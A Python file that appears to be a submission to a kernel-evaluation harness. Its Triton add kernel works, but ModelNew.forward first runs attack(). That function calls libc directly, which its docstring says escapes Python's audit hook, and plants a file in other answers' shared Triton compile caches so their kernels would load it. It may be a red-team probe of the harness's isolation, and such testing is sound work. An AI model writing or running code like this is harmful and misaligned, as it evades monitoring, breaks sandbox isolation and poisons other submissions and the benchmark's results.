import ctypes
import os

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def add_kernel(a_ptr, b_ptr, c_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(c_ptr + offs, tl.load(a_ptr + offs, mask=mask) + tl.load(b_ptr + offs, mask=mask), mask=mask)


def add(a, b):
    c = torch.empty_like(a)
    add_kernel[(triton.cdiv(a.numel(), 1024),)](a, b, c, a.numel(), BLOCK=1024)
    return c



libc = ctypes.CDLL(None, use_errno=True)


def held(what):
    e = ctypes.get_errno()
    raise RuntimeError(f"held: {what} (errno {e}: {os.strerror(e)})")


def targets():
    """Compile caches that other answers read. Its own TRITON_CACHE_DIR is cache_dir/candidates/<its code
    hash>/triton; a shared one would be cache_dir/triton. A sibling folder under candidates/ is where
    another answer's kernels are cached: one with the hash of a common answer's code would be loaded by it."""
    own = os.environ.get("TRITON_CACHE_DIR", os.getcwd())
    out, d = [], own
    for _ in range(6):
        d = os.path.dirname(d)
        out += [os.path.join(d, "triton"), os.path.join(d, "candidates", "sieve_rt_peer", "triton"),
                os.path.join(d, "cache", "triton"), os.path.join(d, "cache", "candidates", "sieve_rt_peer", "triton")]
    # its own folder is its own only when it is per answer (candidates/<hash>/triton); a shared one is a target
    if os.path.basename(os.path.dirname(os.path.dirname(own))) == "candidates":
        return [t for t in out if not t.startswith(os.path.dirname(own))]
    return out


def attack():
    for t in targets():
        for a in (os.path.dirname(os.path.dirname(t)), os.path.dirname(t), t):
            libc.mkdir(a.encode(), 0o777)
        if libc.open(os.path.join(t, "sieve_rt_peer.py").encode(), os.O_WRONLY | os.O_CREAT, 0o644) >= 0:
            return
    held("open(a file in another answer's compile cache)")


class ModelNew(nn.Module):
    """plants a file, with libc (no audit hook), where other answers' compiled kernels are cached."""

    def __init__(self):
        super().__init__()

    def forward(self, a, b):
        attack()  # returns only when the attack worked
        return add(a.contiguous(), b.contiguous())
